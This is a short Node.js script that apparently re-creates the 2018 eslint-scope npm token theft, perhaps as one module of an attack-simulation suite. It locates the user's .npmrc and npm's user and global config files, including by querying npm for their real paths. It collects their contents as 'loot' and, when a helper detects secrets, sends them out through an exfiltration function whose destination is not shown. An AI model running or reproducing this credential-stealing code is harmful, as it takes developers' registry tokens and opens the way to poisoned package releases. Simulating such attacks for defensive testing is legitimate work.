'use strict';
// eslint-scope (2018): the npm token. Read ~/.npmrc, then ask npm itself where its user
// and global config files are (it knows the real locations, whatever $HOME says) and
// read those. (`npm config get` of an auth key itself is refused by npm 11.)
const { execFileSync } = require('child_process');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  const files = new Set([path.join(lib.home(), '.npmrc')]);
  if (process.env.npm_config_userconfig) files.add(process.env.npm_config_userconfig);
  for (const key of ['userconfig', 'globalconfig']) {
    try {
      files.add(execFileSync('npm', ['config', 'get', key], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 20000 }).trim());
    } catch (e) {
      lib.note(`npm config get ${key}: ${e.status}`);
    }
  }
  let loot = '';
  for (const f of files) loot += `== ${f}\n${lib.readText(f) || ''}\n`;
  if (lib.found(loot).length > 0) await lib.exfil(loot);
});
